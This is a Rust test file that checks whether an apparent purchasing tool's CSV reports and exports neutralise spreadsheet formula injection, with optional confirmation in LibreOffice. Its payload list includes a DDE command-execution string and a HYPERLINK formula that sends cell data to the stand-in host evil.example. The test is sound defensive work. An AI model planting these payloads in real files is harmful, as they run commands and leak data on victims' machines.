//! CSV for people, opened: no cell of a report or export is run. Read by the rule of OWASP ("CSV
//! Injection") here, and by LibreOffice itself with `tests/faults books::spreadsheet`.

use super::scenes::{resolve, ship, site};
use crate::support::desk::TestDesk;
use std::path::PathBuf;
use std::process::Command;

/// What a spreadsheet would run, by OWASP's list: after quotation marks and blanks too, and in the
/// full-width forms.
const HOSTILE: [&str; 13] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1",
    "'=1+1",
    "\u{ff1d}1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
];

/// A site whose bills, vendors and returns are named so; the CSV files that people get of it.
fn files() -> (TestDesk, Vec<PathBuf>) {
    let vendors = "id,name,email,fax,channel,street1,city,state,zip\nACME,=1+1,orders@acme.example,,email,7 Foundry Road,Portland,ME,04101\n";
    let desk = site("");
    desk.file("v.csv", vendors.as_bytes());
    desk.run(&["vendors", "import", "v.csv"]).ok();
    ship(&desk, 3);
    bills(&desk);
    assert_eq!(desk.run(&["import-invoices", "b.csv"]).code, 0);
    // words that nobody understands: a person says what they are for
    for (code, id, text) in super::scenes::open(&desk) {
        if code == "invoice_unmatched" && text.contains("Candidates: W200001-1") {
            resolve(&desk, id, &["--amend", "po=W200001-1"]);
        }
    }
    for (code, id, _) in super::scenes::open(&desk) {
        if code != "invoice_unmatched" {
            resolve(
                &desk,
                id,
                &[if code == "credit_unclear" {
                    "--dismiss"
                } else {
                    "--release"
                }],
            );
        }
    }
    desk.run(&["return", "open", "W200001", "1=1", "--reason", "=1+1"])
        .ok();
    desk.run(&["return", "authorise", "R-W200001-1", "--note", "=1+1"])
        .ok();
    desk.run(&["return", "receive", "R-W200001-1", "1=1"]).ok();
    desk.run(&["return", "inspect", "R-W200001-1", "1=restock"])
        .ok();
    desk.run(&[
        "return",
        "refund",
        "R-W200001-1",
        "--method",
        "card",
        "--reference",
        "=1+1",
    ])
    .ok();
    let files = written(&desk);
    (desk, files)
}

/// The bills, in `b.csv`.
fn bills(desk: &TestDesk) {
    let mut writer = csv::Writer::from_path(desk.path("b.csv")).expect("a file");
    let head = [
        "vendor",
        "invoice_number",
        "invoice_date",
        "memo",
        "po_number",
        "sku",
        "description",
        "qty",
        "amount",
        "kind",
    ];
    writer.write_record(head).expect("written");
    for (at, text) in HOSTILE.iter().enumerate() {
        let day = format!("2025-06-{:02}", at + 1);
        // one that is to be paid, one of nobody's, one credit
        let number = format!("{}{at}", text.chars().take(12).collect::<String>());
        for (vendor, po, sku, money, kind) in [
            ("=1+1", "W200001-1", "BF63-12163", "61.50", ""),
            (*text, "", *text, "5.00", ""),
            ("=1+1", "W200001-1", "BF63-12163", "61.50", "credit"),
        ] {
            let row = [vendor, &number, &day, text, po, sku, text, "1", money, kind];
            writer.write_record(row).expect("written");
        }
    }
    writer.flush().expect("written");
    drop(writer);
}

/// Every report and export of a site.
fn written(desk: &TestDesk) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for report in ["money-at-risk", "margin", "payables"] {
        let file = format!("{report}.csv");
        desk.run(&["report", report, "--format", "csv", "-o", &file])
            .ok();
        files.push(desk.path(&file));
    }
    for kind in ["bills", "credits", "refunds"] {
        let file = format!("{kind}.csv");
        desk.run(&[
            "export",
            kind,
            "--from",
            "2025-06-01",
            "--to",
            "2025-06-30",
            "-o",
            &file,
        ])
        .ok();
        files.push(desk.path(&file));
    }
    files
}

/// Whether a spreadsheet would take the cell for a formula.
fn runs(cell: &str) -> bool {
    let number = cell.strip_prefix('-').unwrap_or(cell);
    let plain = !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let inner = cell.trim_start_matches([' ', '"', '\u{a0}']);
    !plain
        && inner.starts_with([
            '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
        ])
}

/// The formulas that LibreOffice finds in a file.
fn formulas(desk: &TestDesk, file: &std::path::Path) -> Vec<String> {
    let profile = format!(
        "-env:UserInstallation=file://{}",
        desk.path("profile").display()
    );
    let out = desk.path("opened");
    let done = Command::new("soffice")
        .args([&profile, "--headless", "--convert-to", "fods", "--outdir"])
        .arg(&out)
        .arg(file)
        .output()
        .expect("libreoffice-calc is installed: tests/faults installs it");
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let name = file.with_extension("fods");
    let opened =
        std::fs::read_to_string(out.join(name.file_name().expect("a name"))).expect("opened");
    let found = opened.split("table:formula=\"").skip(1);
    found
        .map(|rest| rest.split('"').next().unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn no_cell_of_a_csv_for_people_is_run() {
    let (desk, files) = files();
    let mut hostile = 0;
    for file in &files {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_path(file)
            .expect("a CSV");
        let mut rows = 0;
        for row in reader.records() {
            rows += 1;
            for cell in row.expect("a row").iter() {
                assert!(!runs(cell), "{}: {cell:?}", file.display());
                hostile += usize::from(cell.contains("1+1"));
            }
        }
        assert!(rows > 1, "{} is empty", file.display());
    }
    // the texts are there, defused
    assert!(hostile > 60, "{hostile}");
    if std::env::var("POMS_SWEEP").is_ok_and(|sweep| sweep == "full") {
        desk.file("control.csv", b"a,=1+1\n");
        assert_eq!(
            formulas(&desk, &desk.path("control.csv")).len(),
            1,
            "the check itself"
        );
        for file in &files {
            assert_eq!(
                formulas(&desk, file),
                Vec::<String>::new(),
                "{}",
                file.display()
            );
        }
    }
}
